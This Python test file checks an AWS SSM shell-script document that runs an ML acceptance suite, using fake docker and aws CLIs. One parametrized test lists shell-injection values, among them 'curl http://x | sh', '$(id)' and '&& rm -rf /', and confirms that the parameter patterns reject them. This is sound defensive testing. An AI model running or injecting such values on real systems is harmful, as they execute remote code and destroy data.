"""The SSM document: its parameters match what the handler sends, its patterns keep parameters
from becoming shell code, and its script runs end to end against test doubles of docker and aws."""

from __future__ import annotations

import json
import os
import re
import signal
import subprocess
import textwrap
import time
from pathlib import Path

import pytest

from cdk_trn.acceptance.document import DOCUMENT_PARAMETERS, acceptance_script, document_content
from cdk_trn_runtime.acceptance import common, ssm_launcher
from tests.cdk_trn_runtime.acceptance.handler_doubles import NODES, RUN_ID, properties


def handler_parameters(**overrides) -> dict[str, str]:
    props = common.parse_properties(properties(**overrides))
    nodes = ssm_launcher.rank_nodes([common.Node(0, n.instance_id, n.ip) for n in NODES])
    params = ssm_launcher.command_parameters(props, RUN_ID, nodes[1], nodes[0], "us-east-2")
    return {name: values[0] for name, values in params.items()}


def render(params: dict[str, str]) -> str:
    """What Run Command does: substitute every {{ Name }} with its value."""
    return re.sub(r"\{\{\s*(\w+)\s*\}\}", lambda m: params[m.group(1)], acceptance_script())


def test_handler_checks_the_same_cluster_tag_the_nodes_carry():
    from cdk_trn_runtime.contract import CLUSTER_TAG

    assert ssm_launcher.CLUSTER_TAG == CLUSTER_TAG


def test_handler_sends_exactly_the_parameters_the_document_declares():
    assert set(handler_parameters()) == set(DOCUMENT_PARAMETERS)
    assert set(re.findall(r"\{\{\s*(\w+)\s*\}\}", json.dumps(document_content()))) == set(
        DOCUMENT_PARAMETERS
    )


def test_every_value_the_handler_sends_matches_its_allowed_pattern():
    for name, value in handler_parameters().items():
        assert re.fullmatch(DOCUMENT_PARAMETERS[name][1], value), (name, value)


@pytest.mark.parametrize(
    ("name", "value"),
    [
        ("SuiteArgs", "--layers 8; curl http://x | sh"),
        ("SuiteArgs", "--x $(id)"),
        ("SuiteArgs", "--x 'quoted'"),
        ("ImageUri", "123456789012.dkr.ecr.us-east-2.amazonaws.com/repo:tag`id`"),
        ("CompileCacheDir", "/fsx/cache && rm -rf /"),
        ("ResultsUri", "s3://bucket/prefix/$HOME/"),
        ("RendezvousHost", "10.0.0.1;reboot"),
    ],
)
def test_allowed_patterns_reject_shell_metacharacters(name, value):
    assert not re.fullmatch(DOCUMENT_PARAMETERS[name][1], value)


def test_document_is_a_schema_2_2_linux_shell_command_with_the_run_timeout():
    content = document_content()
    assert content["schemaVersion"] == "2.2"
    (step,) = content["mainSteps"]
    assert step["action"] == "aws:runShellScript"
    assert step["inputs"]["timeoutSeconds"] == "{{ ExecutionTimeout }}"
    assert all(
        p["type"] == "String" and p["allowedPattern"] for p in content["parameters"].values()
    )


def test_rendered_script_is_valid_bash():
    result = subprocess.run(
        ["bash", "-n"], input=render(handler_parameters()), text=True, capture_output=True
    )
    assert result.returncode == 0, result.stderr


# --- the script against test doubles of docker and aws --------------------------------------------

FAKE_DOCKER = textwrap.dedent(
    r"""
    #!/bin/bash
    # Test double of the docker CLI: records its arguments; `run` writes results like the suite
    # (or stands in for a container that keeps running, as its own process); `ps` lists the
    # leftover containers a case sets; `rm --force NAME` stops the running stand-in, like docker.
    echo "docker $*" >> "${FAKE_CALLS}"
    if [ "$1" = "ps" ]; then
      for id in ${FAKE_LEFTOVER_CONTAINERS:-}; do echo "${id}"; done
      exit 0
    fi
    if [ "$1" = "rm" ]; then
      for name in "${@:3}"; do
        if [ -f "${FAKE_CONTAINERS}/${name}" ]; then
          kill "$(cat "${FAKE_CONTAINERS}/${name}")" 2>/dev/null || true
          rm -f "${FAKE_CONTAINERS}/${name}"
        fi
      done
      exit 0
    fi
    if [ "$1" = "run" ]; then
      out=""
      prev=""
      name=""
      for arg in "$@"; do
        if [ "${prev}" = "--volume" ] && [[ "${arg}" == *:/results ]]; then
          out="${arg%:/results}"
        fi
        if [ "${prev}" = "--name" ]; then name="${arg}"; fi
        prev="${arg}"
      done
      if [ -n "${FAKE_DOCKER_RUN_HANGS:-}" ]; then
        mkdir -p "${FAKE_CONTAINERS}"
        echo "$$" > "${FAKE_CONTAINERS}/${name}"
        echo "container running"
        exec sleep 60
      fi
      echo '{"rank": 0}' > "${out}/rank-0.json"
      echo '{"schema_version": 1}' > "${out}/summary.json"
      echo "torchrun says hello"
      if [ "${FAKE_DOCKER_RUN_STATUS}" != "0" ]; then
        echo "FAILED gemm_fraction_of_peak on rank 0" >&2
      fi
      exit "${FAKE_DOCKER_RUN_STATUS}"
    fi
    if [ "$1" = "login" ]; then cat > /dev/null; fi
    exit 0
    """
).lstrip()

FAKE_AWS = textwrap.dedent(
    r"""
    #!/bin/bash
    # Test double of the aws CLI: ECR login prints a token; `s3 cp --recursive` copies into a
    # directory standing in for S3.
    echo "aws $*" >> "${FAKE_CALLS}"
    if [ "$1" = "ecr" ]; then echo "token-test-double"; exit 0; fi
    if [ "$1" = "s3" ] && [ "$2" = "cp" ]; then
      args=("$@")
      src="${args[-2]}"
      dest="${args[-1]#s3://}"
      mkdir -p "${FAKE_S3}/${dest}"
      cp -r "${src}/." "${FAKE_S3}/${dest}"
    fi
    exit 0
    """
).lstrip()


@pytest.fixture
def node(tmp_path: Path):
    bin_dir = tmp_path / "bin"
    bin_dir.mkdir()
    for name, text in (("docker", FAKE_DOCKER), ("aws", FAKE_AWS)):
        (bin_dir / name).write_text(text)
        (bin_dir / name).chmod(0o755)
    env = {
        "PATH": f"{bin_dir}:{os.environ['PATH']}",
        "FAKE_CALLS": str(tmp_path / "calls.log"),
        "FAKE_S3": str(tmp_path / "s3"),
        "FAKE_CONTAINERS": str(tmp_path / "containers"),
        "FAKE_DOCKER_RUN_STATUS": "0",
        "CDK_TRN_ACCEPTANCE_ROOT": str(tmp_path / "work"),
    }
    params = handler_parameters(CompileCacheDir=str(tmp_path / "cache"))
    # No Neuron or EFA devices on a test machine.
    params.update(ExpectedNeuronDevices="0", ExpectedEfaDevices="0")

    def write_script() -> Path:
        script = tmp_path / "_script.sh"
        script.write_text(render(params))
        script.chmod(0o755)
        return script

    def run(**env_overrides: str) -> subprocess.CompletedProcess[str]:
        script = write_script()
        return subprocess.run(
            ["sh", "-c", str(script)],  # how the SSM agent starts runShellScript
            env={**env, **env_overrides},
            text=True,
            capture_output=True,
            timeout=60,
        )

    run.calls = lambda: (tmp_path / "calls.log").read_text().splitlines()  # type: ignore[attr-defined]
    run.uploaded = tmp_path / "s3" / "test-acceptance-results" / "acceptance-runs" / RUN_ID / "1"  # type: ignore[attr-defined]
    run.params = params  # type: ignore[attr-defined]
    run.env = env  # type: ignore[attr-defined]
    run.write_script = write_script  # type: ignore[attr-defined]
    run.containers = tmp_path / "containers"  # type: ignore[attr-defined]
    return run


def test_script_runs_the_suite_under_torchrun_and_uploads_the_results(node):
    result = node()
    assert result.returncode == 0, result.stderr
    calls = node.calls()
    assert "aws ecr get-login-password --region us-east-2" in calls
    assert any(
        c.startswith("docker login --username AWS --password-stdin 123456789012.dkr.ecr")
        for c in calls
    )
    (run,) = [c for c in calls if c.startswith("docker run")]
    for expected in (
        "--network host",
        "--ulimit memlock=-1:-1",
        f"--volume {node.params['CompileCacheDir']}:{node.params['CompileCacheDir']}",
        "--env NEURON_RT_ROOT_COMM_ID=10.64.0.12:46820",
        f"--env NEURON_COMPILE_CACHE_URL={node.params['CompileCacheDir']}",
        "--entrypoint torchrun",
        "--nnodes 2 --nproc-per-node 2 --node-rank 1",
        f"--rdzv-backend c10d --rdzv-endpoint 10.64.0.12:29400 --rdzv-id {RUN_ID}",
        "--local-addr 10.64.0.9",
        f"-m cdk_trn_runtime.suite run --out-dir /results --run-id {RUN_ID} --node 10.64.0.9",
        "--peak-bf16-tflops 166.75 --peak-hbm-gbps 725 --min-gemm-fraction 0.5",
    ):
        assert expected in run, expected
    assert "FI_PROVIDER" not in run  # no EFA devices expected on this node
    assert f"--name cdk-trn-acceptance-{RUN_ID}-1 --label cdk-trn-acceptance=1 " in run
    assert (node.uploaded / "summary.json").is_file()
    assert (node.uploaded / "rank-0.json").is_file()
    assert "torchrun says hello" in (node.uploaded / "node-1.log").read_text()


def test_script_keeps_the_suites_exit_status_and_still_uploads(node):
    result = node(FAKE_DOCKER_RUN_STATUS="1")
    assert result.returncode == 1
    assert "FAILED gemm_fraction_of_peak on rank 0" in result.stderr
    assert "the suite exited with status 1" in result.stderr.strip().splitlines()[-1]
    assert (node.uploaded / "summary.json").is_file()


def test_script_stops_before_pulling_when_device_counts_are_wrong(node):
    node.params["ExpectedNeuronDevices"] = "16"
    result = node()
    assert result.returncode == 3
    assert "found 0 Neuron devices, expected 16" in result.stderr
    docker_calls = [c for c in node.calls() if c.startswith("docker")]
    assert docker_calls == ["docker ps -aq --filter label=cdk-trn-acceptance=1"]
    assert "expected 16" in (node.uploaded / "node-1.log").read_text()


def test_script_first_removes_containers_an_earlier_stopped_run_left_behind(node):
    result = node(FAKE_LEFTOVER_CONTAINERS="0a1b2c3d4e5f 9f8e7d6c5b4a")
    assert result.returncode == 0, result.stderr
    calls = [c for c in node.calls() if c.startswith("docker")]
    assert calls[:2] == [
        "docker ps -aq --filter label=cdk-trn-acceptance=1",
        "docker rm -f 0a1b2c3d4e5f 9f8e7d6c5b4a",
    ]
    assert "removing containers left by an earlier run: 0a1b2c3d4e5f 9f8e7d6c5b4a" in (
        result.stderr
    )


def test_script_removes_its_container_when_the_run_ends(node):
    result = node(FAKE_DOCKER_RUN_STATUS="1")
    assert result.returncode == 1
    calls = node.calls()
    run = next(i for i, c in enumerate(calls) if c.startswith("docker run"))
    assert f"docker rm --force cdk-trn-acceptance-{RUN_ID}-1" in calls[run + 1 :]


def test_terminated_script_removes_its_running_container_and_still_uploads(node):
    script = node.write_script()
    # The script itself gets TERM, as from Run Command on a cancel or timeout; not its children.
    process = subprocess.Popen(
        ["bash", str(script)],
        env={**node.env, "FAKE_DOCKER_RUN_HANGS": "1"},
        text=True,
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
    )
    container = node.containers / f"cdk-trn-acceptance-{RUN_ID}-1"
    try:
        deadline = time.monotonic() + 30
        while not container.exists() or not container.read_text().strip():
            assert time.monotonic() < deadline, "the container stand-in never started"
            assert process.poll() is None, process.communicate()
            time.sleep(0.05)
        container_pid = int(container.read_text())
        process.send_signal(signal.SIGTERM)
        _, stderr = process.communicate(timeout=30)
    finally:
        if process.poll() is None:
            process.kill()
    assert process.returncode == 143, stderr
    assert "stopped by a signal" in stderr
    assert f"docker rm --force cdk-trn-acceptance-{RUN_ID}-1" in node.calls()
    assert not container.exists()
    assert _exits_within(container_pid, seconds=5)
    assert "container running" in (node.uploaded / "node-1.log").read_text()


def _exits_within(pid: int, *, seconds: float) -> bool:
    """Whether ``pid`` is gone (or a zombie waiting to be reaped) within ``seconds``."""
    deadline = time.monotonic() + seconds
    while time.monotonic() < deadline:
        try:
            state = Path(f"/proc/{pid}/stat").read_text().rsplit(")", 1)[1].split()[0]
        except (FileNotFoundError, ProcessLookupError):
            return True
        if state == "Z":
            return True
        time.sleep(0.05)
    return False


def test_script_is_the_shellchecked_runtime_file_with_every_marker_replaced():
    from cdk_trn._runtime import runtime_file

    source = runtime_file("acceptance", "run_suite.sh").read_text(encoding="utf-8")
    script = acceptance_script()
    assert source.startswith("#!/bin/bash\n") and script.startswith("#!/bin/bash\n")
    assert len(script.splitlines()) == len(source.splitlines())
    assert "__" not in re.sub(r"\w__\w", "", script)  # no __MARKER__ left for the node
    # Run Command substitutes only declared parameters: the script names no other placeholder.
    placeholders = set(re.findall(r"\{\{\s*(\w+)\s*\}\}", script))
    assert placeholders == set(DOCUMENT_PARAMETERS) - {"ExecutionTimeout"}  # timeoutSeconds
